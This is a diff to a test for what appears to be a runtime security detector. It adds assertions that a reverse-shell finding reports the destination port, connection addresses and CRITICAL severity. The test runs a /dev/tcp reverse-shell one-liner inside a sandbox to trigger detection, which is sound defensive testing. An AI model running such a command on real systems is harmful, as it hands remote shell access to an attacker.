@@ -64,6 +64,10 @@ def test_a_reverse_shell_is_told_with_its_peer(t):
         box.run(["/bin/bash", "-c", f"/bin/sh -c : >& /dev/tcp/{address}/{port} 0>&1"])
     found = watch.finding(category="Reverse Shell")
     t.equal(found.properties["Stdin_Peer"], f"{address}:{port}")
+    t.equal(found.properties["Reverse_Shell_Stdin_Redirection_Dst_Port"], port)
+    connection = found.record["finding"]["connections"][0]
+    t.equal([connection[k] for k in ("destinationIp", "destinationPort", "sourceIp")],
+            [address, port, address])
     t.equal(found.record["finding"]["severity"], "CRITICAL")
 
 
